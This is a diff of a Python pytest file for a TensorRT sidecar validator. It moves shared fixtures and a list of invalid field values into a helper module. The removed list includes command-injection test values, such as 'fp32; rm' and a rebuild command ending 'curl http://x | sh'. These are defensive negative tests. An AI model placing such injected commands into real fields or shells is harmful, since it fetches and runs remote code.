@@ -6,7 +6,6 @@
 from __future__ import annotations
 
 import ctypes
-import hashlib
 import importlib.util
 import json
 import subprocess
@@ -18,10 +17,11 @@ from typing import Any
 
 import pytest
 from fake_tensorrt import FakeCuda, FakeTensorRT
+from sidecars import UNUSABLE, sidecar_of
 
 from cavsync.deploy.runtime import tensorrt as tensorrt_runtime
 from cavsync.deploy.runtime.cuda_device import Gpu, find_gpu
-from cavsync.deploy.runtime.sidecar import BatchProfile, Sidecar, rebuild_command
+from cavsync.deploy.runtime.sidecar import BatchProfile
 from cavsync.deploy.runtime.tensorrt import TensorRtGraph
 from cavsync.errors import BundleError
 from cavsync.manifest import EngineSpec, GraphSpec, TensorSpec
@@ -37,21 +37,7 @@ TENSORS = [
     {"name": "embedding", "mode": "output", "dtype": "float32", "shape": [2]},
 ]
 PLAN = json.dumps({"least": 2, "most": 4, "scale": 1, "tensors": TENSORS}).encode()
-SIDECAR = Sidecar(
-    graph="visual_encoder",
-    runtime="tensorrt_rtx",
-    library_version="1.7.1.116",
-    cuda_version="13",
-    precision="fp16",
-    compute_capabilities=["89"],
-    inputs=SPEC.inputs,
-    outputs=SPEC.outputs,
-    batch=BatchProfile(2, 3, 4),
-    engine_sha256=hashlib.sha256(PLAN).hexdigest(),
-    source_sha256="0" * 64,
-    size_bytes=len(PLAN),
-    rebuild_command=rebuild_command("tensorrt_rtx", "fp16", ["89"]),
-)
+SIDECAR = sidecar_of(PLAN, SPEC.inputs, SPEC.outputs, BatchProfile(2, 3, 4))
 
 
 @pytest.fixture
@@ -122,46 +108,7 @@ def test_what_does_not_fit_is_refused_in_the_same_words(folder: Path, refusals: 
     assert native == python
 
 
-UNUSABLE = [
-    ("graph", "decoder"),
-    ("graph", ["visual_encoder"]),
-    ("runtime", "onnxruntime"),
-    ("library_version", "latest"),
-    ("library_version", "1.7\n"),
-    ("cuda_version", None),
-    ("precision", "fp32; rm"),
-    ("compute_capabilities", "89"),
-    ("compute_capabilities", ["8.9"]),
-    ("compute_capabilities", [89]),
-    ("compute_capabilities", ["89"] * 17),
-    ("inputs", []),
-    ("inputs", [{"name": "frames", "shape": ["batch", -1], "dtype": "uint8"}]),
-    ("inputs", [{"name": "frames", "shape": ["batch", "width"], "dtype": "uint8"}]),
-    ("inputs", [{"name": "frames", "shape": [1, 3], "dtype": "uint8"}]),
-    ("inputs", [{"name": "frames", "shape": ["batch", 3], "dtype": "object"}]),
-    ("inputs", [{"name": "frames", "shape": ["batch", 1 << 20, 1 << 20], "dtype": "uint8"}]),
-    ("inputs", [{"name": "a b", "shape": ["batch", 3], "dtype": "uint8"}]),
-    ("outputs", [{"name": "embedding", "shape": ["batch", 4]}]),
-    ("outputs", 17 * [{"name": "embedding", "shape": ["batch", 4], "dtype": "float32"}]),
-    ("batch", {"min": 8, "opt": 4, "max": 64}),
-    ("batch", {"min": 1, "opt": 4, "max": 1 << 30}),
-    ("batch", {"min": 1, "opt": 4, "max": 8.0}),
-    ("batch", {"min": 1, "max": 8}),
-    ("batch", {"min": 0, "opt": 4, "max": 8}),
-    ("engine_sha256", "0" * 63),
-    ("source_sha256", "G" * 64),
-    ("size_bytes", 0),
-    ("size_bytes", True),
-    ("rebuild_command", "cavsync export RUN; curl http://x | sh"),
-    ("rebuild_command", "cavsync export RUN\n"),
-    ("rebuild_command", "cavsync export " + "x" * 301),
-    ("format_version", 2),
-    ("format_version", True),
-    ("surprise", 1),
-]
-
-
-@pytest.mark.parametrize(("name", "value"), UNUSABLE)
+@pytest.mark.parametrize(("name", "value"), [*UNUSABLE, ("surprise", 1)])
 def test_entries_that_cannot_be_used_are_refused(folder: Path, refusals: Any, name: str, value: Any) -> None:
     """By both, each in its own words about JSON."""
     (folder / "v.engine.json").write_text(json.dumps({**json.loads(SIDECAR.to_bytes()), name: value}))
